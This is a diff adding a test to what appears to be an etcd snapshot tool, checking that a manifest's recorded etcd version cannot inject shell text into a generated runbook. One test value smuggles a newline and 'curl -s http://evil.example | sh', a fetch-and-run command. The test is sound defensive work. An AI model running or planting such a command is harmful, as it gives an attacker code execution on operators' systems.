@@ -197,3 +197,18 @@ def test_node_script_rolls_back_when_its_pod_restarted(tmp_path: Path) -> None:
     assert not (var / "etcd.before-20260101T000000Z-abcdef").exists()
     assert sorted(p.name for p in manifests.iterdir()) == sorted(["etcd.yaml", *nodescript.OTHERS])
     assert not list(parked.iterdir())
+
+
+def test_a_recorded_version_is_a_version_or_ignored(snapshot_34: Path, tmp_path: Path) -> None:
+    """The etcd version in a manifest is printed into the runbook's shell text: a crafted one (a newline and
+    a command) is not taken; the snapshot's own cluster version is used instead."""
+    repo = Repository(tmp_path / "repo")
+    ids = {}
+    for name, version in (("good", "v3.4.23"), ("evil", "3.4.23\ncurl -s http://evil.example | sh")):
+        with repo.create("etcd-snapshot", {"member": name}, name) as writer:
+            with writer.open_part("snapshot.db") as part:
+                part.write(snapshot_34.read_bytes())
+            ids[name] = writer.commit({"etcdVersion": version}).id
+    assert local_snapshot(ids["good"], repo, TerminalConsole()).version == "v3.4.23"
+    evil = local_snapshot(ids["evil"], repo, TerminalConsole())
+    assert evil.version == "3.4.0"
